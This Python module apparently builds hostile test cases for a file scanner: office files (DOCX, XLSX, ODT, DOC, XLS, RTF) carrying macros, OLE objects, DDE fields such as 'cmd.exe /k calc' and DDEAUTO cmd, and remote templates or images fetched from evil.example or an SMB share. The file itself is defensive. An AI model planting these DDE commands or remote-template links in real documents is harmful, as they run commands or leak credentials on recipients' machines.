"""Files that run or fetch something when a program opens them: macros, objects, DDE, remote content."""

from __future__ import annotations

import struct
from collections.abc import Mapping

from containers import Line, compound, raw_zip
from hostile_case import Case
from office_files import (
    DOCUMENT,
    MICROSOFT,
    RELATIONS,
    docx_with,
    edited,
    parts_of,
    related,
    with_body,
    with_field,
    xlsx_with,
)

from generator.foreign.kinds import Kind

# -- what runs or fetches -----------------------------------------------------------------------------------


def typed(data: bytes, old: bytes, new: bytes) -> bytes:
    return edited(data, "[Content_Types].xml", lambda xml: xml.replace(old, new))


def docm() -> bytes:
    plain, macro = b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"
    return typed(
        docx_with({"word/vbaProject.bin": compound({"VBA/dir": b"x"})}),
        plain.split(b".")[0] + b".document.main",
        macro,
    )


def link(xml: str) -> bytes:
    opening = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    return xlsx_with({"xl/externalLinks/externalLink1.xml": f"{opening}{xml}</externalLink>".encode()})


def odf(kind: str, content: str = "", more: Mapping[str, bytes] | None = None) -> bytes:
    mimetype = Line(b"mimetype", f"application/vnd.oasis.opendocument.{kind}".encode(), method=8)
    parts = {"content.xml": f"<a>{content}</a>".encode(), "META-INF/manifest.xml": b"<m/>", **(more or {})}
    return raw_zip([mimetype, *(Line(name.encode(), data) for name, data in parts.items())])


def document_stream(flags: int = 0, text: bytes = b"") -> bytes:
    """A WordDocument stream: the first block's magic, its flags at 0x0A, and text."""
    return struct.pack("<5H", 0xA5EC, 0xC1, 0, 0, 0) + struct.pack("<H", flags) + bytes(500) + text


def records(*each: tuple[int, bytes]) -> bytes:
    """A Workbook stream: BOF, these records, EOF."""
    body = ((0x0809, bytes(16)), *each, (0x000A, b""))
    return b"".join(struct.pack("<2H", number, len(data)) + data for number, data in body)


MACROS, OLE, DDE, FETCHED = "holds macros", "OLE objects", "DDE links", "fetched from elsewhere"
ACTIVE = (
    Case(
        "dde in an odd part.docx",
        Kind.DOCX,
        DDE,
        lambda: docx_with({"word/Odd 1.XML": parts_of(with_field("DDE a"))[DOCUMENT]}),
    ),
    Case(
        "capital relations.docx",
        Kind.DOCX,
        FETCHED,
        lambda: docx_with({"word/_RELS/A.RELS": parts_of(related("image", "http://a/"))[RELATIONS]}),
    ),
    Case("macros.docm", Kind.DOCX_OTHER, MACROS, docm),
    Case("macros named.docx", Kind.DOCX_OTHER, MACROS, docm),
    Case("macros undeclared.docx", Kind.DOCX, MACROS, lambda: docx_with({"word/vbaProject.bin": b"x"})),
    Case("macro sheet.xlsx", Kind.XLSX, MACROS, lambda: xlsx_with({"xl/macrosheets/sheet1.xml": b"<a/>"})),
    Case(
        "macros elsewhere.docx",
        Kind.DOCX,
        MACROS,
        lambda: related("vbaProject", "x.bin", mode="Internal", base=MICROSOFT),
    ),
    Case("object.docx", Kind.DOCX, OLE, lambda: docx_with({"word/embeddings/oleObject1.bin": b"x"})),
    Case("linked object.docx", Kind.DOCX, OLE, lambda: related("oleObject", "file:///C:/evil.xls")),
    Case("control.docx", Kind.DOCX, "ActiveX", lambda: docx_with({"word/activeX/activeX1.xml": b"<a/>"})),
    Case("dde.docx", Kind.DOCX, DDE, lambda: with_field("DDE", "AUTO c:\\\\windows\\\\cmd.exe /k calc")),
    Case(
        "dde simple.docx",
        Kind.DOCX,
        DDE,
        lambda: with_body('<w:p><w:fldSimple w:instr=" dde excel a b"/></w:p>'),
    ),
    Case(
        "fetched picture field.docx",
        Kind.DOCX,
        FETCHED,
        lambda: with_field(' INCLUDEPICTURE "https://evil.example/a.png" \\d'),
    ),
    Case(
        "remote template.docx",
        Kind.DOCX,
        "remote template",
        lambda: related("attachedTemplate", "https://evil.example/a.dotm"),
    ),
    Case(
        "share template.docx",
        Kind.DOCX,
        "remote template",
        lambda: related("attachedTemplate", r"\\evil\share\a.dotm"),
    ),
    Case("remote picture.docx", Kind.DOCX, FETCHED, lambda: related("image", "http://evil.example/a.png")),
    Case("frame.docx", Kind.DOCX, FETCHED, lambda: related("frame", "http://evil.example/")),
    Case("chunk.docx", Kind.DOCX, "another document", lambda: related("aFChunk", "a.html", mode="Internal")),
    Case("link.xlsx", Kind.XLSX, "other workbooks", lambda: link("<externalBook/>")),
    Case("dde.xlsx", Kind.XLSX, DDE, lambda: link('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')),
    Case("macros.odt", Kind.ODT, MACROS, lambda: odf("text", more={"Basic/Standard/a.xml": b"<a/>"})),
    Case(
        "remote picture.odt",
        Kind.ODT,
        FETCHED,
        lambda: odf("text", '<draw:image xlink:href="http://evil.example/a"/>'),
    ),
    Case("dde.ods", Kind.ODS, DDE, lambda: odf("spreadsheet", '<office:dde-source office:dde-item="a"/>')),
    Case(
        "macros.doc",
        Kind.DOC,
        MACROS,
        lambda: compound({"WordDocument": document_stream(), "Macros/dir": b"x"}),
    ),
    Case(
        "dde.doc",
        Kind.DOC,
        DDE,
        lambda: compound({"WordDocument": document_stream(text=b"\x13 DDEAUTO cmd \x15")}),
    ),
    Case(
        "object.doc",
        Kind.DOC,
        OLE,
        lambda: compound({"WordDocument": document_stream(), "ObjectPool/_1": b"x"}),
    ),
    Case(
        "macro sheet.xls",
        Kind.XLS,
        MACROS,
        lambda: compound({"Workbook": records((0x85, bytes([0, 0, 0, 0, 0, 1, 1, 0, 65])))}),
    ),
    Case(
        "link.xls",
        Kind.XLS,
        "other workbooks",
        lambda: compound({"Workbook": records((0x01AE, b"\1\0\5\0\0a.xls"))}),
    ),
    Case("object.rtf", Kind.RTF, OLE, lambda: rb"{\rtf1{\object\objemb{\*\objdata 0105}}}"),
    Case("dde.rtf", Kind.RTF, DDE, lambda: rb"{\rtf1{\field{\*\fldinst {\b D\'44EAUTO} cmd}}}"),
    Case(
        "remote template.rtf",
        Kind.RTF,
        "remote template",
        lambda: rb"{\rtf1{\*\template http://evil.example/a}}",
    ),
)
